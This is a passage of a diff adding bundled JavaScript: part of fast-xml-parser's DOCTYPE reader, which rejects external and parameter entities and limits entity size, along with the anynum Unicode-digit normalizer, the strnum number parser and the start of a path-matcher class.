+        while (i < xmlData.length && !/\s/.test(xmlData[i]) && xmlData[i] !== '"' && xmlData[i] !== "'") {
+            i++;
+        }
+        let entityName = xmlData.substring(startIndex, i);
+
+        validateEntityName(entityName, { xmlVersion: this.xmlVersion });
+
+        // Skip whitespace after entity name
+        i = skipWhitespace(xmlData, i);
+
+        // Check for unsupported constructs (external entities or parameter entities)
+        if (!this.suppressValidationErr) {
+            if (xmlData.substring(i, i + 6).toUpperCase() === "SYSTEM") {
+                throw new Error("External entities are not supported");
+            } else if (xmlData[i] === "%") {
+                throw new Error("Parameter entities are not supported");
+            }
+        }
+
+        // Read entity value (internal entity)
+        let entityValue = "";
+        [i, entityValue] = this.readIdentifierVal(xmlData, i, "entity");
+
+        // Validate entity size
+        if (this.options.enabled !== false &&
+            this.options.maxEntitySize != null &&
+            entityValue.length > this.options.maxEntitySize) {
+            throw new Error(
+                `Entity "${entityName}" size (${entityValue.length}) exceeds maximum allowed size (${this.options.maxEntitySize})`
+            );
+        }
+
+        i--;
+        return [entityName, entityValue, i];
+    }
+
+    readNotationExp(xmlData, i) {
+        // Skip leading whitespace after <!NOTATION
+        i = skipWhitespace(xmlData, i);
+
+        // Read notation name
+
+        const startIndex = i;
+        while (i < xmlData.length && !/\s/.test(xmlData[i])) {
+            i++;
+        }
+        let notationName = xmlData.substring(startIndex, i);
+
+        !this.suppressValidationErr && validateEntityName(notationName, { xmlVersion: this.xmlVersion });
+
+        // Skip whitespace after notation name
+        i = skipWhitespace(xmlData, i);
+
+        // Check identifier type (SYSTEM or PUBLIC)
+        const identifierType = xmlData.substring(i, i + 6).toUpperCase();
+        if (!this.suppressValidationErr && identifierType !== "SYSTEM" && identifierType !== "PUBLIC") {
+            throw new Error(`Expected SYSTEM or PUBLIC, found "${identifierType}"`);
+        }
+        i += identifierType.length;
+
+        // Skip whitespace after identifier type
+        i = skipWhitespace(xmlData, i);
+
+        // Read public identifier (if PUBLIC)
+        let publicIdentifier = null;
+        let systemIdentifier = null;
+
+        if (identifierType === "PUBLIC") {
+            [i, publicIdentifier] = this.readIdentifierVal(xmlData, i, "publicIdentifier");
+
+            // Skip whitespace after public identifier
+            i = skipWhitespace(xmlData, i);
+
+            // Optionally read system identifier
+            if (xmlData[i] === '"' || xmlData[i] === "'") {
+                [i, systemIdentifier] = this.readIdentifierVal(xmlData, i, "systemIdentifier");
+            }
+        } else if (identifierType === "SYSTEM") {
+            // Read system identifier (mandatory for SYSTEM)
+            [i, systemIdentifier] = this.readIdentifierVal(xmlData, i, "systemIdentifier");
+
+            if (!this.suppressValidationErr && !systemIdentifier) {
+                throw new Error("Missing mandatory system identifier for SYSTEM notation");
+            }
+        }
+
+        return { notationName, publicIdentifier, systemIdentifier, index: --i };
+    }
+
+    readIdentifierVal(xmlData, i, type) {
+        let identifierVal = "";
+        const startChar = xmlData[i];
+        if (startChar !== '"' && startChar !== "'") {
+            throw new Error(`Expected quoted string, found "${startChar}"`);
+        }
+        i++;
+
+        const startIndex = i;
+        while (i < xmlData.length && xmlData[i] !== startChar) {
+            i++;
+        }
+        identifierVal = xmlData.substring(startIndex, i);
+
+        if (xmlData[i] !== startChar) {
+            throw new Error(`Unterminated ${type} value`);
+        }
+        i++;
+        return [i, identifierVal];
+    }
+
+    readElementExp(xmlData, i) {
+        // <!ELEMENT br EMPTY>
+        // <!ELEMENT div ANY>
+        // <!ELEMENT title (#PCDATA)>
+        // <!ELEMENT book (title, author+)>
+        // <!ELEMENT name (content-model)>
+
+        // Skip leading whitespace after <!ELEMENT
+        i = skipWhitespace(xmlData, i);
+
+        // Read element name
+        const startIndex = i;
+        while (i < xmlData.length && !/\s/.test(xmlData[i])) {
+            i++;
+        }
+        let elementName = xmlData.substring(startIndex, i);
+
+        // Validate element name
+        if (!this.suppressValidationErr && !qName(elementName, { xmlVersion: this.xmlVersion })) {
+            throw new Error(`Invalid element name: "${elementName}"`);
+        }
+
+        // Skip whitespace after element name
+        i = skipWhitespace(xmlData, i);
+        let contentModel = "";
+        // Expect '(' to start content model
+        if (xmlData[i] === "E" && hasSeq(xmlData, "MPTY", i)) i += 4;
+        else if (xmlData[i] === "A" && hasSeq(xmlData, "NY", i)) i += 2;
+        else if (xmlData[i] === "(") {
+            i++; // Move past '('
+
+            // Read content model
+            const startIndex = i;
+            while (i < xmlData.length && xmlData[i] !== ")") {
+                i++;
+            }
+            contentModel = xmlData.substring(startIndex, i);
+
+            if (xmlData[i] !== ")") {
+                throw new Error("Unterminated content model");
+            }
+
+        } else if (!this.suppressValidationErr) {
+            throw new Error(`Invalid Element Expression, found "${xmlData[i]}"`);
+        }
+
+        return {
+            elementName,
+            contentModel: contentModel.trim(),
+            index: i
+        };
+    }
+
+    readAttlistExp(xmlData, i) {
+        // Skip leading whitespace after <!ATTLIST
+        i = skipWhitespace(xmlData, i);
+
+        // Read element name
+        let startIndex = i;
+        while (i < xmlData.length && !/\s/.test(xmlData[i])) {
+            i++;
+        }
+        let elementName = xmlData.substring(startIndex, i);
+
+        // Validate element name
+        validateEntityName(elementName, { xmlVersion: this.xmlVersion })
+
+        // Skip whitespace after element name
+        i = skipWhitespace(xmlData, i);
+
+        // Read attribute name
+        startIndex = i;
+        while (i < xmlData.length && !/\s/.test(xmlData[i])) {
+            i++;
+        }
+        let attributeName = xmlData.substring(startIndex, i);
+
+        // Validate attribute name
+        if (!validateEntityName(attributeName, { xmlVersion: this.xmlVersion })) {
+            throw new Error(`Invalid attribute name: "${attributeName}"`);
+        }
+
+        // Skip whitespace after attribute name
+        i = skipWhitespace(xmlData, i);
+
+        // Read attribute type
+        let attributeType = "";
+        if (xmlData.substring(i, i + 8).toUpperCase() === "NOTATION") {
+            attributeType = "NOTATION";
+            i += 8; // Move past "NOTATION"
+
+            // Skip whitespace after "NOTATION"
+            i = skipWhitespace(xmlData, i);
+
+            // Expect '(' to start the list of notations
+            if (xmlData[i] !== "(") {
+                throw new Error(`Expected '(', found "${xmlData[i]}"`);
+            }
+            i++; // Move past '('
+
+            // Read the list of allowed notations
+            let allowedNotations = [];
+            while (i < xmlData.length && xmlData[i] !== ")") {
+
+
+                const startIndex = i;
+                while (i < xmlData.length && xmlData[i] !== "|" && xmlData[i] !== ")") {
+                    i++;
+                }
+                let notation = xmlData.substring(startIndex, i);
+
+                // Validate notation name
+                notation = notation.trim();
+                if (!validateEntityName(notation, { xmlVersion: this.xmlVersion })) {
+                    throw new Error(`Invalid notation name: "${notation}"`);
+                }
+
+                allowedNotations.push(notation);
+
+                // Skip '|' separator or exit loop
+                if (xmlData[i] === "|") {
+                    i++; // Move past '|'
+                    i = skipWhitespace(xmlData, i); // Skip optional whitespace after '|'
+                }
+            }
+
+            if (xmlData[i] !== ")") {
+                throw new Error("Unterminated list of notations");
+            }
+            i++; // Move past ')'
+
+            // Store the allowed notations as part of the attribute type
+            attributeType += " (" + allowedNotations.join("|") + ")";
+        } else {
+            // Handle simple types (e.g., CDATA, ID, IDREF, etc.)
+            const startIndex = i;
+            while (i < xmlData.length && !/\s/.test(xmlData[i])) {
+                i++;
+            }
+            attributeType += xmlData.substring(startIndex, i);
+
+            // Validate simple attribute type
+            const validTypes = ["CDATA", "ID", "IDREF", "IDREFS", "ENTITY", "ENTITIES", "NMTOKEN", "NMTOKENS"];
+            if (!this.suppressValidationErr && !validTypes.includes(attributeType.toUpperCase())) {
+                throw new Error(`Invalid attribute type: "${attributeType}"`);
+            }
+        }
+
+        // Skip whitespace after attribute type
+        i = skipWhitespace(xmlData, i);
+
+        // Read default value
+        let defaultValue = "";
+        if (xmlData.substring(i, i + 8).toUpperCase() === "#REQUIRED") {
+            defaultValue = "#REQUIRED";
+            i += 8;
+        } else if (xmlData.substring(i, i + 7).toUpperCase() === "#IMPLIED") {
+            defaultValue = "#IMPLIED";
+            i += 7;
+        } else {
+            [i, defaultValue] = this.readIdentifierVal(xmlData, i, "ATTLIST");
+        }
+
+        return {
+            elementName,
+            attributeName,
+            attributeType,
+            defaultValue,
+            index: i
+        }
+    }
+}
+
+
+
+const skipWhitespace = (data, index) => {
+    while (index < data.length && /\s/.test(data[index])) {
+        index++;
+    }
+    return index;
+};
+
+
+
+function hasSeq(data, seq, i) {
+    for (let j = 0; j < seq.length; j++) {
+        if (seq[j] !== data[i + j + 1]) return false;
+    }
+    return true;
+}
+
+function validateEntityName(name, xmlVersion) {
+    if (qName(name, { xmlVersion: xmlVersion }))
+        return name;
+    else
+        throw new Error(`Invalid entity name ${name}`);
+}
+;// CONCATENATED MODULE: ./node_modules/anynum/digitTable.js
+/**
+ * Flat lookup table: maps Unicode code point → ASCII digit (0-9).
+ * Only decimal digit characters (Unicode category Nd) are included.
+ *
+ * Strategy: Int32Array of size (maxCodePoint - minCodePoint + 1).
+ * Value 0xFF means "not a digit". Value 0-9 is the ASCII digit value.
+ * This gives O(1) lookup with no branching, no bisect, no loop.
+ *
+ * Memory: range is 0x0660 to 0x1FBF0 → ~129,936 entries × 1 byte = ~127 KB.
+ * Acceptable for a one-time init; lookup is a single array index.
+ */
+
+// All known Unicode Nd (decimal digit) script zero code points.
+// Each script has exactly 10 consecutive digits: zero+0 .. zero+9.
+const SCRIPT_ZEROS = [
+  // Basic Latin (ASCII) — included for completeness / pass-through
+  0x0030, // 0-9
+
+  // Arabic scripts
+  0x0660, // Arabic-Indic ٠١٢٣٤٥٦٧٨٩
+  0x06F0, // Extended Arabic-Indic (Urdu/Persian/Sindhi) ۰۱۲۳
+
+  // Indic scripts
+  0x0966, // Devanagari ०१२३४५६७८९
+  0x09E6, // Bengali ০১২৩৪৫৬৭৮৯
+  0x0A66, // Gurmukhi ੦੧੨੩੪੫੬੭੮੯
+  0x0AE6, // Gujarati ૦૧૨૩૪૫૬૭૮૯
+  0x0B66, // Odia ୦୧୨୩୪୫୬୭୮୯
+  0x0BE6, // Tamil ௦௧௨௩௪௫௬௭௮௯
+  0x0C66, // Telugu ౦౧౨౩౪౫౬౭౮౯
+  0x0CE6, // Kannada ೦೧೨೩೪೫೬೭೮೯
+  0x0D66, // Malayalam ൦൧൨൩൪൫൬൭൮൯
+  0x0DE6, // Sinhala Archaic ෦෧෨෩෪෫෬෭෮෯
+
+  // Southeast Asian scripts
+  0x0E50, // Thai ๐๑๒๓๔๕๖๗๘๙
+  0x0ED0, // Lao ໐໑໒໓໔໕໖໗໘໙
+  0x0F20, // Tibetan ༠༡༢༣༤༥༦༧༨༩
+  0x1040, // Myanmar ၀၁၂၃၄၅၆၇၈၉
+  0x1090, // Myanmar Shan ႐႑႒႓႔႕႖႗႘႙
+  0x17E0, // Khmer ០១២៣៤៥៦៧៨៩
+  0x1810, // Mongolian ᠐᠑᠒᠓᠔᠕᠖᠗᠘᠙
+  0x1946, // Limbu ᥆᥇᥈᥉᥊᥋᥌᥍᥎᥏
+  0x19D0, // New Tai Lue ᧐᧑᧒᧓᧔᧕᧖᧗᧘᧙
+  0x1A80, // Tai Tham Hora ᪀᪁᪂᪃᪄᪅᪆᪇᪈᪉
+  0x1A90, // Tai Tham Tham ᪐᪑᪒᪓᪔᪕᪖᪗᪘᪙
+  0x1B50, // Balinese ᭐᭑᭒᭓᭔᭕᭖᭗᭘᭙
+  0x1BB0, // Sundanese ᮰᮱᮲᮳᮴᮵᮶᮷᮸᮹
+  0x1C40, // Lepcha ᱀᱁᱂᱃᱄᱅᱆᱇᱈᱉
+  0x1C50, // Ol Chiki ᱐᱑᱒᱓᱔᱕᱖᱗᱘᱙
+
+  // Fullwidth (CJK context)
+  0xFF10, // Fullwidth ０１２３４５６７８９
+
+  // Mathematical digit variants (Unicode math block)
+  0x1D7CE, // Mathematical Bold
+  0x1D7D8, // Mathematical Double-Struck
+  0x1D7E2, // Mathematical Sans-Serif
+  0x1D7EC, // Mathematical Sans-Serif Bold
+  0x1D7F6, // Mathematical Monospace
+
+  // Other scripts
+  0x104A0, // Osmanya 𐒠𐒡𐒢𐒣𐒤𐒥𐒦𐒧𐒨𐒩
+  0x10D30, // Hanifi Rohingya 𐴰𐴱𐴲𐴳𐴴𐴵𐴶𐴷𐴸𐴹
+  0x11066, // Brahmi 𑁦𑁧𑁨𑁩𑁪𑁫𑁬𑁭𑁮𑁯
+  0x110F0, // Sora Sompeng 𑃰𑃱𑃲𑃳𑃴𑃵𑃶𑃷𑃸𑃹
+  0x11136, // Chakma 𑄶𑄷𑄸𑄹𑄺𑄻𑄼𑄽𑄾𑄿
+  0x111D0, // Sharada 𑇐𑇑𑇒𑇓𑇔𑇕𑇖𑇗𑇘𑇙
+  0x112F0, // Khudawadi 𑋰𑋱𑋲𑋳𑋴𑋵𑋶𑋷𑋸𑋹
+  0x11450, // Newa 𑑐𑑑𑑒𑑓𑑔𑑕𑑖𑑗𑑘𑑙
+  0x114D0, // Tirhuta 𑓐𑓑𑓒𑓓𑓔𑓕𑓖𑓗𑓘𑓙
+  0x11650, // Modi 𑙐𑙑𑙒𑙓𑙔𑙕𑙖𑙗𑙘𑙙
+  0x116C0, // Takri 𑛀𑛁𑛂𑛃𑛄𑛅𑛆𑛇𑛈𑛉
+  0x11730, // Ahom 𑜰𑜱𑜲𑜳𑜴𑜵𑜶𑜷𑜸𑜹
+  0x118E0, // Warang Citi 𑣠𑣡𑣢𑣣𑣤𑣥𑣦𑣧𑣨𑣩
+  0x11950, // Dives Akuru 𑥐𑥑𑥒𑥓𑥔𑥕𑥖𑥗𑥘𑥙
+  0x11BF0, // Khitan Small Script 𑯰𑯱𑯲𑯳𑯴𑯵𑯶𑯷𑯸𑯹
+  0x11C50, // Bhaiksuki 𑱐𑱑𑱒𑱓𑱔𑱕𑱖𑱗𑱘𑱙
+  0x11D50, // Masaram Gondi 𑵐𑵑𑵒𑵓𑵔𑵕𑵖𑵗𑵘𑵙
+  0x11DA0, // Gunjala Gondi 𑶠𑶡𑶢𑶣𑶤𑶥𑶦𑶧𑶨𑶩
+  0x11F50, // Kawi 𑽐𑽑𑽒𑽓𑽔𑽕𑽖𑽗𑽘𑽙
+  0x16A60, // Mro 𖩠𖩡𖩢𖩣𖩤𖩥𖩦𖩧𖩨𖩩
+  0x16AC0, // Tangsa 𖫀𖫁𖫂𖫃𖫄𖫅𖫆𖫇𖫈𖫉
+  0x16B50, // Pahawh Hmong 𖭐𖭑𖭒𖭓𖭔𖭕𖭖𖭗𖭘𖭙
+  0x1E140, // Nyiakeng Puachue Hmong 𞅀𞅁𞅂𞅃𞅄𞅅𞅆𞅇𞅈𞅉
+  0x1E2F0, // Wancho 𞋰𞋱𞋲𞋳𞋴𞋵𞋶𞋷𞋸𞋹
+  0x1E4F0, // Nag Mundari 𞓰𞓱𞓲𞓳𞓴𞓵𞓶𞓷𞓸𞓹
+  0x1E950, // Adlam 𞥐𞥑𞥒𞥓𞥔𞥕𞥖𞥗𞥘𞥙
+  0x1FBF0, // Segmented digit symbols 🯰🯱🯲🯳🯴🯵🯶🯷🯸🯹
+];
+
+// Build a sparse Map for scripts above 0xFFFF (surrogate-pair range).
+// These can't go into a flat Uint8Array indexed by code point efficiently.
+const NOT_DIGIT = 0xFF;
+const HIGH_MAP = new Map(); // codePoint → digit value (0-9)
+
+const LOW_MAX = 0xFFFF;
+const LOW_MIN = 0x0660; // first non-ASCII digit script
+
+// Flat Uint8Array covering 0x0660 .. 0xFFFF
+const TABLE_OFFSET = LOW_MIN;
+const TABLE_SIZE = LOW_MAX - LOW_MIN + 1;
+const TABLE = new Uint8Array(TABLE_SIZE).fill(NOT_DIGIT);
+
+for (const zero of SCRIPT_ZEROS) {
+  for (let d = 0; d < 10; d++) {
+    const cp = zero + d;
+    if (cp <= LOW_MAX) {
+      TABLE[cp - TABLE_OFFSET] = d;
+    } else {
+      HIGH_MAP.set(cp, d);
+    }
+  }
+}
+
+
+
+;// CONCATENATED MODULE: ./node_modules/anynum/anynum.js
+
+
+
+
+const CHAR_0 = 48; // '0'.charCodeAt(0)
+const CHAR_9 = 57; // '9'.charCodeAt(0)
+const CHAR_MINUS = 45; // '-'.charCodeAt(0)
+
+// Unicode minus/hyphen variants worth normalizing to ASCII '-' in numeric context:
+//   U+2212  MINUS SIGN       − (mathematically correct minus)
+//   U+FF0D  FULLWIDTH HYPHEN-MINUS  － (Japanese fullwidth context)
+//   U+FE63  SMALL HYPHEN-MINUS     ﹣ (small form variant)
+//
+// NOT normalized (deliberate):
+//   U+2013  EN DASH  –  (punctuation, not a numeric sign)
+//   U+2014  EM DASH  —  (punctuation)
+//   U+2010  HYPHEN   ‐  (typographic hyphen)
+//
+// Rationale: only characters a human or locale formatter would plausibly use
+// as a numeric minus sign are normalized. Dashes used for punctuation are left
+// alone to avoid mangling non-numeric strings.
+const MINUS_SET = new Set([0x2212, 0xFF0D, 0xFE63]);
+
+/**
+ * Normalize all Unicode decimal digit characters in a string to ASCII (0-9),
+ * and normalize Unicode minus variants to ASCII '-' (U+002D).
+ *
+ * Non-digit, non-minus characters are passed through unchanged.
+ *
+ * Performance design:
+ * - Fast path: if the string has no convertible characters, return it unchanged
+ *   (zero allocation).
+ * - BMP digits (0x0660..0xFFFF excl. surrogates): flat Uint8Array lookup (O(1)).
+ * - Supplementary plane digits (> 0xFFFF, encoded as surrogate pairs): Map lookup.
+ * - Minus variants: checked inline with a small fixed Set.
+ *
+ * @param {string} str
+ * @returns {string}
+ */
+function anynum(str) {
+  if (typeof str !== 'string') return str;
+
+  const len = str.length;
+  if (len === 0) return str;
+
+  // Scan for first character needing conversion.
+  // If none found, return original string (zero allocation).
+  let firstHit = -1;
+
+  for (let i = 0; i < len; i++) {
+    const cc = str.charCodeAt(i);
+
+    // ASCII digit or ASCII minus — already normalized, skip fast
+    if ((cc >= CHAR_0 && cc <= CHAR_9) || cc === CHAR_MINUS) continue;
+
+    // Below first unicode digit script — check minus variants only
+    if (cc < TABLE_OFFSET) {
+      if (MINUS_SET.has(cc)) { firstHit = i; break; }
+      continue;
+    }
+
+    // Surrogate pairs live in BMP range 0xD800-0xDFFF — check before TABLE
+    if (cc >= 0xD800 && cc <= 0xDBFF) {
+      if (i + 1 < len) {
+        const low = str.charCodeAt(i + 1);
+        if (low >= 0xDC00 && low <= 0xDFFF) {
+          const cp = 0x10000 + ((cc - 0xD800) << 10) + (low - 0xDC00);
+          if (HIGH_MAP.has(cp)) { firstHit = i; break; }
+        }
+      }
+      continue;
+    }
+
+    // BMP non-surrogate: flat table lookup; also check minus variants in this range
+    if (TABLE[cc - TABLE_OFFSET] !== NOT_DIGIT || MINUS_SET.has(cc)) {
+      firstHit = i;
+      break;
+    }
+  }
+
+  // Nothing to replace — return original, zero allocation
+  if (firstHit === -1) return str;
+
+  // Build result: copy unchanged prefix, then convert from firstHit onward
+  const chars = [];
+
+  if (firstHit > 0) chars.push(str.slice(0, firstHit));
+
+  for (let i = firstHit; i < len; i++) {
+    const cc = str.charCodeAt(i);
+
+    // ASCII digit or ASCII minus — pass through
+    if ((cc >= CHAR_0 && cc <= CHAR_9) || cc === CHAR_MINUS) {
+      chars.push(str[i]);
+      continue;
+    }
+
+    // Below TABLE_OFFSET — check minus variants, else pass through
+    if (cc < TABLE_OFFSET) {
+      chars.push(MINUS_SET.has(cc) ? '-' : str[i]);
+      continue;
+    }
+
+    // Surrogate pairs
+    if (cc >= 0xD800 && cc <= 0xDBFF) {
+      if (i + 1 < len) {
+        const low = str.charCodeAt(i + 1);
+        if (low >= 0xDC00 && low <= 0xDFFF) {
+          const cp = 0x10000 + ((cc - 0xD800) << 10) + (low - 0xDC00);
+          const d = HIGH_MAP.get(cp);
+          if (d !== undefined) {
+            chars.push(String.fromCharCode(d + 48));
+            i++; // consume low surrogate
+            continue;
+          }
+        }
+      }
+      chars.push(str[i]);
+      continue;
+    }
+
+    // BMP non-surrogate: flat table lookup + minus variants
+    if (MINUS_SET.has(cc)) {
+      chars.push('-');
+      continue;
+    }
+    const d = TABLE[cc - TABLE_OFFSET];
+    chars.push(d !== NOT_DIGIT ? String.fromCharCode(d + 48) : str[i]);
+  }
+
+  return chars.join('');
+}
+
+
+/* harmony default export */ const anynum_anynum = (anynum);
+;// CONCATENATED MODULE: ./node_modules/strnum/strnum.js
+const hexRegex = /^[-+]?0x[a-fA-F0-9]+$/;
+const binRegex = /^0b[01]+$/;
+const octRegex = /^0o[0-7]+$/;
+const numRegex = /^([\-\+])?(0*)([0-9]*(\.[0-9]*)?)$/;
+
+
+
+const consider = {
+    hex: true,
+    binary: false,
+    octal: false,
+    leadingZeros: true,
+    decimalPoint: "\.",
+    eNotation: true,
+    //skipLike: /regex/,
+    infinity: "original", // "null", "infinity" (Infinity type), "string" ("Infinity" (the string literal))
+    unicode: false,
+};
+
+function toNumber(str, options = {}) {
+    options = Object.assign({}, consider, options);
+    if (!str || typeof str !== "string") return str;
+
+    let trimmedStr = str.trim();
+
+    if (trimmedStr.length === 0) return str;
+    else if (options.skipLike !== undefined && options.skipLike.test(trimmedStr)) return str;
+    else if (trimmedStr === "0") return 0;
+
+    if (options.unicode) {
+        trimmedStr = anynum_anynum(trimmedStr);
+        if (trimmedStr === "0") return 0; // re-check after normalization
+    }
+    if (options.hex && hexRegex.test(trimmedStr)) {
+        return parse_int(trimmedStr, 16);
+    } else if (options.binary && binRegex.test(trimmedStr)) {
+        return parse_int(trimmedStr, 2);
+    } else if (options.octal && octRegex.test(trimmedStr)) {
+        return parse_int(trimmedStr, 8);
+    } else if (!isFinite(trimmedStr)) { //Infinity or not a number
+        const num = Number(trimmedStr);
+        if (Number.isNaN(num)) return str; //not a number: always the original string
+        return handleInfinity(str, num, options); //only +/-Infinity reaches here
+    } else if (trimmedStr.includes('e') || trimmedStr.includes('E')) { //eNotation
+        return resolveEnotation(str, trimmedStr, options);
+    } else {
+        //separate negative sign, leading zeros, and rest number
+        const match = numRegex.exec(trimmedStr);
+        // +00.123 => [ , '+', '00', '.123', ..
+        if (match) {
+            const sign = match[1] || "";
+            const leadingZeros = match[2];
+            let numTrimmedByZeros = trimZeros(match[3]); //complete num without leading zeros
+            const decimalAdjacentToLeadingZeros = sign ? // 0., -00., 000.
+                trimmedStr[leadingZeros.length + 1] === "."
+                : trimmedStr[leadingZeros.length] === ".";
+
+            //trim ending zeros for floating number
+            if (!options.leadingZeros //leading zeros are not allowed
+                && (leadingZeros.length > 1
+                    || (leadingZeros.length === 1 && !decimalAdjacentToLeadingZeros))) {
+                // 00, 00.3, +03.24, 03, 03.24
+                return str;
+            }
+            else {//no leading zeros or leading zeros are allowed
+                const num = Number(trimmedStr);
+                const parsedStr = String(num);
+
+                if (num === 0) return num;
+                if (parsedStr.search(/[eE]/) !== -1) { //given number is long and parsed to eNotation
+                    if (options.eNotation) return num;
+                    else return str;
+                } else if (trimmedStr.indexOf(".") !== -1) { //floating number
+                    if (parsedStr === "0") return num; //0.0
+                    else if (parsedStr === numTrimmedByZeros) return num; //0.456. 0.79000
+                    else if (parsedStr === `${sign}${numTrimmedByZeros}`) return num;
+                    else return str;
+                }
+
+                let n = leadingZeros ? numTrimmedByZeros : trimmedStr;
+                if (leadingZeros) {
+                    // -009 => -9
+                    return (n === parsedStr) || (sign + n === parsedStr) ? num : str
+                } else {
+                    // +9
+                    return (n === parsedStr) || (n === sign + parsedStr) ? num : str
+                }
+            }
+        } else { //non-numeric string
+            return str;
+        }
+    }
+}
+
+const eNotationRegx = /^([-+])?(0*)(\d*(\.\d*)?[eE][-\+]?\d+)$/;
+function resolveEnotation(str, trimmedStr, options) {
+    if (!options.eNotation) return str;
+    const notation = trimmedStr.match(eNotationRegx);
+    if (notation) {
+        let sign = notation[1] || "";
+        const eChar = notation[3].indexOf("e") === -1 ? "E" : "e";
+        const leadingZeros = notation[2];
+        const eAdjacentToLeadingZeros = sign ? // 0E.
+            trimmedStr[leadingZeros.length + 1] === eChar
+            : trimmedStr[leadingZeros.length] === eChar;
+
+        if (leadingZeros.length > 1 && eAdjacentToLeadingZeros) return str;
+        else if (leadingZeros.length === 1
+            && (notation[3].startsWith(`.${eChar}`) || notation[3][0] === eChar)) {
+            return Number(trimmedStr);
+        } else if (leadingZeros.length > 0) {
+            // Has leading zeros — only accept if leadingZeros option allows it
+            if (options.leadingZeros && !eAdjacentToLeadingZeros) {
+                return Number(trimmedStr); // Number() accepts leading zeros; stripping can leave a mantissa-less ".e0"
+            } else return str;
+        } else {
+            // No leading zeros — always valid e-notation, parse it
+            return Number(trimmedStr);
+        }
+    } else {
+        return str;
+    }
+}
+
+/**
+ * 
+ * @param {string} numStr without leading zeros
+ * @returns 
+ */
+function trimZeros(numStr) {
+    if (numStr && numStr.indexOf(".") !== -1) {//float
+        //remove ending zeros without the O(n^2) backtracking that /0+$/ hits
+        //when the string doesn't end in 0 but has a long internal zero-run
+        let end = numStr.length;
+        while (end > 0 && numStr.charCodeAt(end - 1) === 48 /* '0' */) end--;
+        numStr = numStr.slice(0, end);
+        if (numStr === ".") numStr = "0";
+        else if (numStr[0] === ".") numStr = "0" + numStr;
+        else if (numStr[numStr.length - 1] === ".") numStr = numStr.substring(0, numStr.length - 1);
+        return numStr;
+    }
+    return numStr;
+}
+
+function parse_int(numStr, base) {
+    const str = numStr.trim();
+    if (base === 2 || base === 8) numStr = str.substring(2);
+
+    if (parseInt) return parseInt(numStr, base);
+    else if (Number.parseInt) return Number.parseInt(numStr, base);
+    else if (window && window.parseInt) return window.parseInt(numStr, base);
+    else throw new Error("parseInt, Number.parseInt, window.parseInt are not supported");
+}
+
+/**
+ * Handle infinite values based on user option
+ * @param {string} str - original input string
+ * @param {number} num - parsed number (Infinity or -Infinity)
+ * @param {object} options - user options
+ * @returns {string|number|null} based on infinity option
+ */
+function handleInfinity(str, num, options) {
+    const isPositive = num === Infinity;
+
+    switch (options.infinity.toLowerCase()) {
+        case "null":
+            return null;
+        case "infinity":
+            return num; // Return Infinity or -Infinity
+        case "string":
+            return isPositive ? "Infinity" : "-Infinity";
+        case "original":
+        default:
+            return str; // Return original string like "1e1000"
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/ignoreAttributes.js
+function getIgnoreAttributesFn(ignoreAttributes) {
+    if (typeof ignoreAttributes === 'function') {
+        return ignoreAttributes
+    }
+    if (Array.isArray(ignoreAttributes)) {
+        return (attrName) => {
+            for (const pattern of ignoreAttributes) {
+                if (typeof pattern === 'string' && attrName === pattern) {
+                    return true
+                }
+                if (pattern instanceof RegExp && pattern.test(attrName)) {
+                    return true
+                }
+            }
+        }
+    }
+    return () => false
+}
+;// CONCATENATED MODULE: ./node_modules/path-expression-matcher/src/Matcher.js
+
+
+/**
+ * MatcherView - A lightweight read-only view over a Matcher's internal state.
+ *
+ * Created once by Matcher and reused across all callbacks. Holds a direct
+ * reference to the parent Matcher so it always reflects current parser state
+ * with zero copying or freezing overhead.
+ *
+ * Users receive this via {@link Matcher#readOnly} or directly from parser
+ * callbacks. It exposes all query and matching methods but has no mutation
+ * methods — misuse is caught at the TypeScript level rather than at runtime.
+ *
+ * @example
+ * const matcher = new Matcher();
+ * const view = matcher.readOnly();
+ *
+ * matcher.push("root", {});
+ * view.getCurrentTag(); // "root"
+ * view.getDepth();      // 1
+ */
+class MatcherView {
+  /**
+   * @param {Matcher} matcher - The parent Matcher instance to read from.
+   */
+  constructor(matcher) {
+    this._matcher = matcher;
+  }
+
+  /**
+   * Get the path separator used by the parent matcher.
+   * @returns {string}
+   */
+  get separator() {
+    return this._matcher.separator;
+  }
+
+  /**
+   * Get current tag name.
+   * @returns {string|undefined}
+   */
+  getCurrentTag() {
+    const path = this._matcher.path;
+    return path.length > 0 ? path[path.length - 1].tag : undefined;
+  }
+
+  /**
+   * Get current namespace.
+   * @returns {string|undefined}
+   */
+  getCurrentNamespace() {
+    const path = this._matcher.path;
+    return path.length > 0 ? path[path.length - 1].namespace : undefined;
+  }
+
+  /**
+   * Get current node's attribute value.
+   * @param {string} attrName
+   * @returns {*}
+   */
+  getAttrValue(attrName) {
+    const path = this._matcher.path;
+    if (path.length === 0) return undefined;
+    return path[path.length - 1].values?.[attrName];
+  }
+
+  /**
+   * Check if current node has an attribute.
+   * @param {string} attrName
+   * @returns {boolean}
+   */
+  hasAttr(attrName) {
+    const path = this._matcher.path;
+    if (path.length === 0) return false;
+    const current = path[path.length - 1];
+    return current.values !== undefined && attrName in current.values;
+  }
+
+  /**
+   * Get the value of a "kept" attribute from the nearest ancestor (or
+   * current node) that declared it via `push(tag, attrs, ns, { keep: [...] })`.
+   * @param {string} attrName
+   * @returns {*}
+   */
+  getAnyParentAttr(attrName) {
+    return this._matcher.getAnyParentAttr(attrName);
+  }
+
+  /**
+   * Check whether any ancestor (or the current node) kept the given
+   * attribute via `push(tag, attrs, ns, { keep: [...] })`.
+   * @param {string} attrName
+   * @returns {boolean}
+   */
+  hasAnyParentAttr(attrName) {
+    return this._matcher.hasAnyParentAttr(attrName);
+  }
+
+  /**
+   * Get current node's sibling position (child index in parent).
+   * @returns {number}
+   */
+  getPosition() {
+    const path = this._matcher.path;
+    if (path.length === 0) return -1;
+    return path[path.length - 1].position ?? 0;
+  }
+
+  /**
+   * Get current node's repeat counter (occurrence count of this tag name).
+   * @returns {number}
+   */
+  getCounter() {
+    const path = this._matcher.path;
+    if (path.length === 0) return -1;
+    return path[path.length - 1].counter ?? 0;
+  }
+
+  /**
+   * Get current node's sibling index (alias for getPosition).
+   * @returns {number}
+   * @deprecated Use getPosition() or getCounter() instead
+   */
+  getIndex() {
+    return this.getPosition();
+  }
+
+  /**
+   * Get current path depth.
+   * @returns {number}
+   */
+  getDepth() {
+    return this._matcher.path.length;
+  }
+
+  /**
+   * Get path as string.
+   * @param {string} [separator] - Optional separator (uses default if not provided)
+   * @param {boolean} [includeNamespace=true]
+   * @returns {string}
+   */
+  toString(separator, includeNamespace = true) {
